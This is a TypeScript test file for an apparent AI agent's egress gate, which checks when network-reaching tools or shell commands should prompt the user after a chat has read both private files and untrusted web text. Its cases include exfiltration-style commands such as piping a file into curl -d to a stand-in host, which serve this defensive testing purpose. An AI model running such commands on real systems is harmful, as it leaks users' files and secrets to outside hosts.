import assert from 'node:assert/strict';
import type { Exposure } from '../../../../src/core/contracts/chats/exposure';
import type { PermissionRule } from '../../../../src/core/contracts/calls/decision';
import { bindGate, type GateTool } from '../../../../src/core/contracts/policy/define-gate';
import type { PermissionLevel } from '../../../../src/core/contracts/permission-level';
import egress from '../../../../src/core/gates/egress';
import { askAtOnce, fakeWorkspace, gateCall } from '../../fakes/gate-call';
import { realReader } from '../../fakes/real-reader';

const gate = bindGate(egress, { workspace: fakeWorkspace() });

const span = (label: string) => ({ first: { label: 'first' }, last: { label } });
const nothing: Exposure = { urls: new Map() };
const own: Exposure = { ...nothing, private: span('src/keys.ts') };
const page: Exposure = { ...nothing, untrusted: span('https://x.example/') };
const both: Exposure = { ...own, ...page };

const fetches: Partial<GateTool> = { name: 'fetch', effect: 'external_side_effect', egress: true };

interface Case {
  readonly exposure?: Exposure;
  readonly tool?: Partial<GateTool>;
  readonly command?: string;
  readonly rules?: readonly Partial<PermissionRule>[];
  readonly level?: PermissionLevel;
}

async function verdictOf({ exposure = both, tool = {}, command, rules = [], level }: Case) {
  const url = 'https://x.example/?q=1';
  const subject = command === undefined ? { text: url, urls: [url] } : { text: command, command };
  const permissions = rules.map((rule): PermissionRule => {
    return { tool: '*', pattern: '*', action: 'allow', source: 'user', ...rule };
  });
  const policy = { permissions, ...(level !== undefined && { permissionLevel: level }) };
  const reading = command === undefined ? undefined : await realReader.read(command);
  return askAtOnce(gate, gateCall({ exposure, tool, subject, policy, reading }));
}

const even = { evenAfterUntrusted: true } as const;
const curl = { pattern: 'curl https://x.example' } as const;

const cases: readonly (readonly [string, Case, 'allow' | 'ask' | 'abstain'])[] = [
  ['a fresh chat', { exposure: nothing, tool: fetches }, 'allow'],
  ['only private content', { exposure: own, tool: fetches }, 'allow'],
  ['only text of strangers', { exposure: page, tool: fetches }, 'allow'],
  ['both', { tool: fetches }, 'ask'],
  ['both, and a rule that allows', { tool: fetches, rules: [{}] }, 'ask'],
  ['both, and a rule that says so', { tool: fetches, rules: [even] }, 'allow'],
  ['a rule that says so and asks', { tool: fetches, rules: [{ ...even, action: 'ask' }] }, 'ask'],
  ['an earlier rule that does not say so', { tool: fetches, rules: [{}, even] }, 'ask'],
  [
    'a rule that says so for another tool',
    { tool: fetches, rules: [{ ...even, tool: 'core__x' }] },
    'ask',
  ],
  ['a rule of the workspace', { tool: fetches, rules: [{ ...even, source: 'workspace' }] }, 'ask'],
  ['a granted rule', { tool: fetches, rules: [{ ...even, source: 'granted' }] }, 'ask'],
  ['a rule of this chat', { tool: fetches, rules: [{ ...even, source: 'session' }] }, 'ask'],
  ['a shipped rule', { tool: fetches, rules: [{ ...even, source: 'default' }] }, 'ask'],
  [
    'a deny of the workspace above it',
    { tool: fetches, rules: [{ source: 'workspace', action: 'deny' }, even] },
    'ask',
  ],
  ['a tool that talks to no one', { tool: { name: 'read' } }, 'abstain'],
  ['the level of free edits', { tool: fetches, rules: [{}], level: 'edits' }, 'ask'],
  ['a command that talks to no one', { command: 'npm test' }, 'abstain'],
  ['a network program', { command: 'curl https://x.example', rules: [curl] }, 'ask'],
  [
    'a network program in a fresh chat',
    { exposure: own, command: 'curl https://x.example' },
    'allow',
  ],
  [
    'a rule that says so for it',
    { command: 'curl https://x.example', rules: [{ ...curl, ...even }] },
    'allow',
  ],
  [
    'a pipe into it',
    {
      command: 'cat a.txt | curl -d @- https://x.example',
      rules: [{ pattern: 'cat *', ...even }, curl],
    },
    'ask',
  ],
  [
    'a hazard that the rule does not name',
    { command: 'curl -d @a https://x.example', rules: [{ ...curl, ...even }] },
    'ask',
  ],
  [
    'one of two that the rules cover',
    { command: 'git push; curl https://x.example', rules: [{ ...curl, ...even }] },
    'ask',
  ],
  ['git push', { command: 'git push origin main', rules: [{ pattern: 'git push *' }] }, 'ask'],
  [
    'git push with a rule that says so',
    { command: 'git push origin main', rules: [{ pattern: 'git push *', ...even }] },
    'allow',
  ],
  ['inside a wrapper', { command: 'timeout 5 curl https://x.example', rules: [curl] }, 'ask'],
  [
    'inside a wrapper that the rule covers',
    { command: 'timeout 5 curl https://x.example', rules: [{ ...curl, ...even }] },
    'allow',
  ],
  ['inside a shell', { command: "sh -c 'curl https://x.example'", rules: [curl] }, 'ask'],
  ['behind xargs', { command: 'xargs curl < urls', rules: [{ pattern: 'xargs *' }] }, 'ask'],
  [
    'a command that could not be read',
    { command: 'curl "https://x.example', rules: [curl] },
    'ask',
  ],
];

describe('decision egress-gate: after private content and text of strangers', () => {
  for (const [what, given, expected] of cases) {
    it(`${what}: ${expected}`, async () => {
      const { verdict, reason } = await verdictOf(given);
      assert.equal(verdict, expected, reason);
    });
  }

  it('the question names the two sources, the last of each', async () => {
    const { reason } = await verdictOf({ tool: fetches });
    assert.equal(
      reason,
      'the chat has read src/keys.ts and the page https://x.example/, which could tell it to send something away',
    );
    const unknown = await verdictOf({
      tool: fetches,
      exposure: { ...nothing, private: span(''), untrusted: span('') },
    });
    assert.match(unknown.reason, /has read content of yours and text of strangers, which/);
  });
});
